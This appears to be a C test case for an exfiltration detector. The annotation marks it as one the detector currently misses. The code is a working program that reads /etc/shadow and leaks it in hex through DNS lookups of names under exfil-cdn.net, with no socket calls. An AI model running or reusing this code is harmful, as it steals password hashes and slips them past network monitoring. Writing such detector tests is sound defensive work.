/*
 * behavior.exfiltration over DNS: reads /etc/shadow, hex-encodes each
 * 24-byte chunk into a DNS label and "resolves" <hex>.<seq>.t.exfil-cdn.net
 * with getaddrinfo, so the data leaves in the queries to the attacker's
 * name server. No socket is opened and nothing is sent with send/write.
 */
#include <netdb.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    static const char digits[] = "0123456789abcdef";
    unsigned char chunk[24];
    char label[2 * sizeof(chunk) + 1], name[256];
    size_t n;
    unsigned seq = 0;
    FILE *f = fopen("/etc/shadow", "r");

    if (!f)
        return 0;
    while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0) {
        struct addrinfo *ai = NULL;
        for (size_t i = 0; i < n; i++) {
            label[2 * i] = digits[chunk[i] >> 4];
            label[2 * i + 1] = digits[chunk[i] & 15];
        }
        label[2 * n] = '\0';
        snprintf(name, sizeof(name), "%s.%u.t.exfil-cdn.net", label, seq++);
        if (getaddrinfo(name, NULL, NULL, &ai) == 0) // $ MISSING: Alert[behavior.exfiltration]
            freeaddrinfo(ai);
    }
    fclose(f);
    return 0;
}
